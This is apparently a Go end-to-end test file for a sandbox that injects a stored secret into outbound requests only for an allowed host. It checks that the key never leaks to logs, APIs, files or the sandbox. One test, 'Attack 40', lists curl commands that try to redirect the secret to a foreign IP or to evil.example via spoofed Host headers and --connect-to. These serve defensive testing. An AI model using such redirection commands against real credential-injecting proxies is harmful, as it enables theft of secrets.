package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat/api"
	"github.com/moat-sandbox/moat/internal/lab"
	"github.com/moat-sandbox/moat/test/harness"
)

// apiKey is a secret that no sandbox ever sees. It goes into requests to
// example.com, and stands nowhere else.
const apiKey = "sk-LIVE-31415926535897932384"

// keyed is a document that allows example.com and google.com, and has the
// secret set in requests to the first.
func keyed() api.NewSandbox {
	spec := only("example.com", "google.com")
	spec.Network.Rules = &api.Rules{Hosts: map[string][]api.HostRule{
		"example.com": {{Transform: api.Transform{Headers: map[string]string{"Authorization": "Bearer ${e2b.secrets.key}"}}}},
	}}
	return spec
}

func withKey(t *testing.T) *harness.Server {
	t.Helper()
	s := harness.Start(t, harness.Options{})
	if _, err := s.Client().SetSecret(t.Context(), "key", apiKey); err != nil {
		t.Fatal(err)
	}
	return s
}

// programs ask %s for a page with the Authorization of their own, each in the
// way of its kind, and trust what the sandbox trusts.
var programs = map[string]string{
	"curl h1":       `curl -sS -m 10 --http1.1 -H 'authorization: mine' %s/headers`,
	"curl h2":       `curl -sS -m 10 --http2 -H 'authorization: mine' %s/headers`,
	"Node fetch":    `node -e 'fetch(process.argv[1], {headers: {authorization: "mine"}}).then(r => r.text()).then(console.log)' %s/headers`,
	"Node https":    `node -e 'require("https").get(process.argv[1], {headers: {authorization: "mine"}}, r => r.pipe(process.stdout))' %s/headers`,
	"Python urllib": `python3 -c 'import sys, urllib.request as u; print(u.urlopen(u.Request(sys.argv[1], headers={"authorization": "mine"})).read().decode())' %s/headers`,
	"git":           `git -c http.extraHeader='authorization: mine' ls-remote %s/repository.git 2>&1 | grep -q 'not found'`,
	"Go, and gRPC":  prober + ` grpc %s`,
	"WebSocket":     prober + ` websocket %s/ws`,
	"events":        `curl -sSN -m 10 %s/events/5?every=10ms | grep -c ^data: | grep -qx 5`,
	"large body":    `head -c 30000000 /dev/zero | curl -sS -m 60 -T - %s/echo | cmp - <(head -c 30000000 /dev/zero)`,
}

// Programs get the header set without knowing of it, once, and only at the host
// of the rule; elsewhere they speak to the server itself.
func TestInjectedIntoPrograms(t *testing.T) {
	s := withKey(t)
	box := withProber(t, s, keyed())
	for name, program := range programs {
		for _, host := range []string{"example.com", "google.com"} {
			from := len(s.Lab.Requests())
			line := fmt.Sprintf(program, "https://"+host)
			if got := box.Run(t, "bash -c '"+strings.ReplaceAll(line, "'", `'\''`)+"'"); got.Code != 0 || strings.Contains(got.Stdout, "CERT") {
				t.Errorf("%s to %s: %+v", name, host, got)
			}
			arrived := s.Lab.Requests()[from:]
			if len(arrived) == 0 {
				t.Errorf("%s to %s: no request arrived", name, host)
			}
			for _, r := range arrived {
				expectKey(t, name, host, r)
			}
		}
	}
	seen := records(t, s, box)
	for _, r := range seen {
		if intercepted := r.Name == "example.com" && r.Protocol == "http"; intercepted != r.Intercepted || intercepted != slices.Equal(r.Injected, []string{"Authorization"}) {
			t.Errorf("record %+v", r)
		}
	}
	expectSecretNowhere(t, s, box)
}

// expectKey looks at a request that has arrived for the header of the rule.
func expectKey(t *testing.T, program, host string, r lab.Request) {
	t.Helper()
	got := r.Header["Authorization"]
	if want := []string{"Bearer " + apiKey}; host == "example.com" && !slices.Equal(got, want) {
		t.Errorf("%s: %s got %q, want the secret once", program, host, got)
	}
	if strings.Contains(fmt.Sprint(r.Header), apiKey) && host != "example.com" {
		t.Errorf("%s: %s got the secret", program, host)
	}
	if r.Host != host || !r.TLS || r.ServerName != host {
		t.Errorf("%s: %s got a request for %s on a connection for %s", program, host, r.Host, r.ServerName)
	}
}

// expectSecretNowhere looks for the secret's bytes in whatever the server writes or
// says.
func expectSecretNowhere(t *testing.T, s *harness.Server, box *harness.Box) {
	t.Helper()
	if strings.Contains(s.Output(), apiKey) {
		t.Error("the log shows the secret")
	}
	for _, path := range []string{"/sandboxes", "/sandboxes/" + box.ID, "/sandboxes/" + box.ID + "/network", "/v2/sandboxes", "/secrets", "/flows?limit=1000"} {
		if answer := s.Request(t, http.MethodGet, path, ""); strings.Contains(string(answer.Body), apiKey) {
			t.Errorf("GET %s shows the secret", path)
		}
	}
	if got := box.RunAs(t, "root", "env; grep -rl LIVE-3141592653 /etc /home /run /tmp /proc/*/environ 2>/dev/null"); strings.Contains(got.Stdout, "LIVE-31") || strings.Contains(got.Stdout, "/") && strings.Contains(got.Stdout, "environ") {
		t.Errorf("the sandbox has the secret: %s", got.Stdout)
	}
	err := filepath.WalkDir(s.DataDir, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return nil // sandboxes' files come and go
		}
		if info, err := entry.Info(); err != nil || info.Size() > 256<<20 {
			return nil
		}
		if raw, err := os.ReadFile(path); err == nil && bytes.Contains(raw, []byte(apiKey)) {
			t.Errorf("%s has the secret in it", path)
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
}

// Attack 40: an address of the sandbox's choice, with the host of the rule on
// it, is never sent the header, in TLS or in the clear.
func TestAttack40SecretToAnotherAddress(t *testing.T) {
	s := withKey(t)
	open := keyed()
	open.Network.AllowOut, open.Network.DenyOut = nil, nil // everything is reachable
	for name, spec := range map[string]api.NewSandbox{"names": keyed(), "open": open} {
		box := s.Create(t, spec)
		from := len(s.Lab.Requests())
		for _, line := range []string{
			"curl -sS -m 10 --connect-to ::45.60.70.80: https://example.com/headers",
			"curl -sS -m 10 --connect-to ::45.60.70.80: http://example.com/headers",
			"curl -sS -m 10 -H 'Host: example.com' http://45.60.70.80/headers",
			"curl -sSk -m 10 -H 'Host: example.com' https://45.60.70.80/headers",
			"curl -sSk -m 10 -H 'Host: example.com' https://evil.example/headers",
			"curl -sS -m 10 -H 'Host: evil.example' https://example.com/headers",
			"curl -sS -m 10 --http1.1 -H 'Host: google.com' https://example.com/headers",
		} {
			got := box.Run(t, line)
			if strings.Contains(line, "Host: evil") && !strings.Contains(got.Stdout, "misdirected request") {
				t.Errorf("%s, %s: %+v", name, line, got)
			}
		}
		for _, r := range s.Lab.Requests()[from:] {
			home := r.To.Addr().String() == "93.184.216.34" || r.To.Addr().String() == "2606:2800:220:1::34"
			if strings.Contains(fmt.Sprint(r.Header), apiKey) && (!home || r.Host != "example.com") {
				t.Errorf("%s: %v at %v got the secret", name, r.Host, r.To)
			}
		}
	}
}

// Secrets rotate under running sandboxes, and rules change under open
// connections.
func TestRulesAndSecretsLive(t *testing.T) {
	s := withKey(t)
	box := s.Create(t, keyed())
	authorization := func() string {
		var page struct {
			Headers http.Header `json:"headers"`
		}
		text := box.MustRun(t, "curl -sS -m 10 https://example.com/headers")
		if err := json.Unmarshal([]byte(text), &page); err != nil || page.Headers == nil {
			return text
		}
		return page.Headers.Get("Authorization")
	}
	if got := authorization(); got != "Bearer "+apiKey {
		t.Errorf("%q", got)
	}
	if _, err := s.Client().SetSecret(t.Context(), "key", "rotated"); err != nil {
		t.Fatal(err)
	}
	if got := authorization(); got != "Bearer rotated" {
		t.Errorf("after the secret's rotation: %q", got)
	}
	if err := s.Client().DeleteSecret(t.Context(), "key"); err != nil {
		t.Fatal(err)
	}
	if got := authorization(); !strings.Contains(got, `secret \"key\" does not exist`) {
		t.Errorf("after the secret is gone: %q", got)
	}
}
